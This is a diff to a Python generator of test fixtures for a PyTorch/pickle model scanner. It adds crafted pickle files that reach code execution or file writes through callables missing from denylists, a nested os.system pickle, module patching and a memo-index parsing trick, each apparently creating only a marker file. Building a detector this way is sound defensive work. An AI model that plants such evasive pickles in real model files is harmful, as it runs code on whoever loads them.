@@ -358,6 +358,49 @@ case("torchscript_extra_files.pt", "TorchScript-style archive with a pickle in e
                               {"name": "archive/constants.pkl", "data": proto(2) + EMPTY_TUPLE + STOP}]))
 
 
+
+# ---- round two (issue 9): callables outside any denylist, decoding differences, module patches ------------------
+# Each of these passed `pt scan` as a warning or clean before verdicts were judged by use. verify_twins.py loads
+# them with the real torch.load (their payloads only create a marker file) to prove each technique works.
+def plist(*items):
+    return EMPTY_LIST + MARK + b"".join(items) + b"e"
+
+
+ROUND_TWO = []
+
+
+def case2(name, mechanism, expect, data, marker=True):
+    case(name, mechanism, expect, data)
+    ROUND_TWO.append({"file": name, "marker": marker})
+
+
+case2("invented_callable.pt", "REDUCE somepkg.helpers.run_it (a function no list knows)", ["dangerous-global"],
+      torch_zip(state_dict(call(glob("somepkg.helpers", "run_it"), ustr(shell("invented_callable"))))), marker=False)
+case2("logging_filehandler.pt", "REDUCE logging.FileHandler opens (creates) a file", ["dangerous-global"],
+      torch_zip(state_dict(call(glob("logging", "FileHandler"), ustr(MARKER + "logging_filehandler")))))
+case2("osx_support_read_output.pt", "REDUCE _osx_support._read_output runs a shell command", ["dangerous-global"],
+      torch_zip(state_dict(call(glob("_osx_support", "_read_output"), ustr(shell("osx_support_read_output"))))))
+case2("typing_forward_ref.pt", "typing._eval_type(typing.ForwardRef(text)) evaluates the text", ["dangerous-global"],
+      torch_zip(state_dict(call(glob("typing", "_eval_type"), call(glob("typing", "ForwardRef"), ustr(py("typing_forward_ref"))),
+                                EMPTY_DICT, EMPTY_DICT))))
+case2("pyio_open.pt", "REDUCE _pyio.open (builtins.open under another module path)", ["dangerous-global"],
+      torch_zip(state_dict(call(glob("_pyio", "open"), ustr(MARKER + "pyio_open"), ustr("w")))))
+case2("torch_save_writer.pt", "REDUCE torch.save writes a file", ["dangerous-global"],
+      torch_zip(state_dict(call(glob("torch", "save"), EMPTY_DICT, ustr(MARKER + "torch_save_writer")))))
+case2("numpy_savetxt.pt", "REDUCE numpy.savetxt writes a file", ["dangerous-global"],
+      torch_zip(state_dict(call(glob("numpy", "savetxt"), ustr(MARKER + "numpy_savetxt"), plist(plist(b"G" + struct.pack(">d", 1.0)))))))
+case2("py2_dumbdbm.pt", "protocol 2 GLOBAL dumbdbm.open (Python 2 name _compat_pickle maps to dbm.dumb)", ["dangerous-global"],
+      torch_zip(state_dict(call(glob("dumbdbm", "open"), ustr(MARKER + "py2_dumbdbm"), ustr("c")))))
+legacy_inner = proto(2) + call(glob("os", "system"), ustr(shell("storage_load_from_bytes"))) + STOP
+case2("storage_load_from_bytes.pt", "torch.storage._load_from_bytes: a nested torch.load of bytes in the file", ["dangerous-global", "nested-pickle"],
+      torch_zip(state_dict(call(glob("torch.storage", "_load_from_bytes"), bbytes(legacy_inner)))))
+case2("build_patches_module.pt", "BUILD on a module (email.utils) overwrites its attributes", ["dangerous-global"],
+      torch_zip(state_dict(glob("email", "utils") + EMPTY_DICT + ustr("ptsharp_pwned_build") + NEWTRUE + SETITEM + BUILD)), marker=False)
+# PUT '1_0' is index 10 to CPython; a parser that refuses it keeps 'collections' there and resolves collections.system.
+case2("memo_underscore_index.pkl", "protocol-0 PUT 1_0 (index 10 to CPython) swaps the module a GET resolves", ["dangerous-global"],
+      b"Vcollections\np10\n0Vos\np1_0\n0g10\nVsystem\n" + STACK_GLOBAL + b"(V" + shell("memo_underscore_index").encode() + b"\ntR.")
+
+
 def main():
     out = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
     os.makedirs(out, exist_ok=True)
